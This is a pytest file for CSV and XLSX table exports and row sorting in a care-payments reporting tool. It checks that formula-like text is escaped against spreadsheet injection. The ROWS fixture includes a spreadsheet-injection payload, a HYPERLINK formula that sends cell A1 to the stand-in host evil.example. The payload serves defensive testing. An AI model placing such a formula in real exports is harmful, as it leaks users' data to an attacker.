"""Tables exported as CSV and XLSX, read back as a spreadsheet user would, and the one sort every table uses.

Figures: a payment statement's lines as a page shows them (the demo's Wirral
rate of £15.60 an hour, invented visit counts), plus the texts OWASP's CSV
injection guidance names: a formula, and text that merely starts with + or -.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from domain.errors import InvalidInput
from reports.tables import Column, escaped, sort_rows, to_csv, to_xlsx

COLUMNS = [
    Column("provider", "Provider"),
    Column("paid_on", "Paid on", "date"),
    Column("visits", "Visits", "number"),
    Column("rate", "Rate per hour", "money", places=4),
    Column("amount", "Amount", "money"),
    Column("note", "Note"),
]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ROWS = [
    {"provider": "Premier Care", "paid_on": date(2019, 5, 31), "visits": 984, "rate": D("15.6000"),
     "amount": D("1234.50"), "note": HYPERLINK},
    {"provider": "+1", "paid_on": date(2019, 6, 28), "visits": 2, "rate": D("15.60"), "amount": D("-2.00"),
     "note": "-2"},
    {"provider": "@SUM(A1:A9)", "paid_on": None, "visits": 0, "rate": None, "amount": D("0.00"), "note": "\tx"},
    {"provider": "Haven Care", "paid_on": date(2019, 7, 31), "visits": 1, "rate": D("15.60"), "amount": D("7.80"),
     "note": "\rline"},
]  # fmt: skip


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_escapes_formula_like_text_and_writes_decimals_and_dates_as_they_are():
    heading, *lines = read_csv(to_csv(COLUMNS, ROWS))
    assert heading == ["Provider", "Paid on", "Visits", "Rate per hour", "Amount", "Note"]
    assert lines == [
        ["Premier Care", "2019-05-31", "984", "15.6000", "1234.50", "'" + HYPERLINK],
        ["'+1", "2019-06-28", "2", "15.60", "-2.00", "'-2"],  # text "-2" escaped; the amount -2.00 stays a number
        ["'@SUM(A1:A9)", "", "0", "", "0.00", "'\tx"],
        ["Haven Care", "2019-07-31", "1", "15.60", "7.80", "'\rline"],
    ]


def test_xlsx_keeps_money_numeric_with_two_places_dates_as_dates_and_text_escaped():
    data = to_xlsx(COLUMNS, ROWS, sheet="Payments 2019-20")
    sheet = load_workbook(io.BytesIO(data))["Payments 2019-20"]
    heading, *rows = sheet.iter_rows()
    assert [c.value for c in heading] == [c.heading for c in COLUMNS] and all(c.font.b for c in heading)
    assert sheet.freeze_panes == "A2"
    first, second, third, fourth = rows
    assert first[0].value == "Premier Care" and first[5].value == "'" + HYPERLINK and first[5].data_type == "s"
    assert (second[0].value, second[5].value) == ("'+1", "'-2")
    assert (third[0].value, third[5].value) == ("'@SUM(A1:A9)", "'\tx")
    assert fourth[5].value in ("'\rline", "'\nline")  # escaped; an XML reader may give the CR back as LF
    for row, amount in zip(rows, ("1234.50", "-2.00", "0.00", "7.80"), strict=True):
        cell = row[4]
        assert cell.data_type == "n" and cell.number_format == "#,##0.00"
        assert D(repr(cell.value)) == D(amount)  # the same number, whatever places the reader prints
    assert first[3].number_format == "#,##0.0000" and D(repr(first[3].value)) == D("15.6")
    assert first[2].value == 984 and first[2].number_format == "General"  # a count has no money format
    assert first[1].is_date and first[1].value == datetime(2019, 5, 31) and first[1].number_format == "yyyy-mm-dd"
    assert third[1].value is None and third[3].value is None
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)  # no cell is a formula


def test_no_formula_reaches_the_stored_workbook():
    data = to_xlsx(COLUMNS, ROWS)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_headings_are_escaped_too():
    evil = [Column("a", "=1+1")]
    assert read_csv(to_csv(evil, [{"a": "x"}]))[0] == ["'=1+1"]
    assert load_workbook(io.BytesIO(to_xlsx(evil, [{"a": "x"}]))).active["A1"].value == "'=1+1"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t1", "\r1"])
def test_each_formula_start_is_escaped(text):
    assert escaped(text) == "'" + text


@pytest.mark.parametrize("text", ["1", "a=b", " =1", "'=1", "£-2.00", ""])
def test_other_text_is_left_alone(text):
    assert escaped(text) == text


@pytest.mark.parametrize("export", [to_csv, to_xlsx])
def test_a_float_or_a_missing_cell_is_refused_naming_its_row_and_column(export):
    with pytest.raises(InvalidInput, match=r"row 2, column 'amount': 2\.5 is a float"):
        export(COLUMNS, [ROWS[0], {**ROWS[1], "amount": 2.5}])
    with pytest.raises(InvalidInput, match=r"row 1: no value for column\(s\) note"):
        export(COLUMNS, [{k: v for k, v in ROWS[0].items() if k != "note"}])


def test_xlsx_refuses_a_figure_a_spreadsheet_number_cannot_hold_exactly():
    with pytest.raises(InvalidInput, match=r"row 1, column 'amount': 12345678901234\.56 has more than 15 digits"):
        to_xlsx([Column("amount", "Amount", "money")], [{"amount": D("12345678901234.56")}])
    assert to_csv([Column("amount", "Amount", "money")], [{"amount": D("12345678901234.56")}]).endswith(
        "12345678901234.56\r\n"
    )  # CSV is text: exact at any size


# -- sorting ------------------------------------------------------------------------------------------------

TABLE = [
    {"name": "haven care", "amount": D("7.80"), "on": date(2019, 7, 31), "n": 1},
    {"name": "Premier Care", "amount": D("1234.50"), "on": None, "n": 3},
    {"name": "carewatch", "amount": None, "on": date(2019, 4, 30), "n": 2},
    {"name": "Aspire", "amount": D("-2.00"), "on": date(2019, 5, 31), "n": 4},
    {"name": "Bluebird", "amount": D("7.8"), "on": date(2019, 5, 31), "n": 5},
]


def names(rows):
    return [r["name"] for r in rows]


def test_sorts_decimals_as_numbers_with_empty_cells_last_both_ways():
    assert names(sort_rows(TABLE, "amount")) == ["Aspire", "haven care", "Bluebird", "Premier Care", "carewatch"]
    # 7.80 and 7.8 are equal: they keep the table's order, ascending and descending alike
    assert names(sort_rows(TABLE, "amount", descending=True)) == [
        "Premier Care", "haven care", "Bluebird", "Aspire", "carewatch"
    ]  # fmt: skip


def test_sorts_text_ignoring_case_and_dates_as_dates():
    assert names(sort_rows(TABLE, "name")) == ["Aspire", "Bluebird", "carewatch", "haven care", "Premier Care"]
    assert names(sort_rows(TABLE, "on")) == ["carewatch", "Aspire", "Bluebird", "haven care", "Premier Care"]
    assert names(sort_rows(TABLE, "on", descending=True)) == [
        "haven care", "Aspire", "Bluebird", "carewatch", "Premier Care"
    ]  # fmt: skip


def test_sorting_leaves_the_given_rows_alone_and_refuses_what_it_cannot_order():
    before = list(TABLE)
    sort_rows(TABLE, "n", descending=True)
    assert TABLE == before
    assert [r["n"] for r in sort_rows([{"n": D("2.5")}, {"n": 2}, {"n": 3}], "n")] == [2, D("2.5"), 3]
    with pytest.raises(InvalidInput, match="no column 'missing'"):
        sort_rows(TABLE, "missing")
    with pytest.raises(InvalidInput, match="column 'x' mixes Decimal, str"):
        sort_rows([{"x": D("1")}, {"x": "a"}], "x")
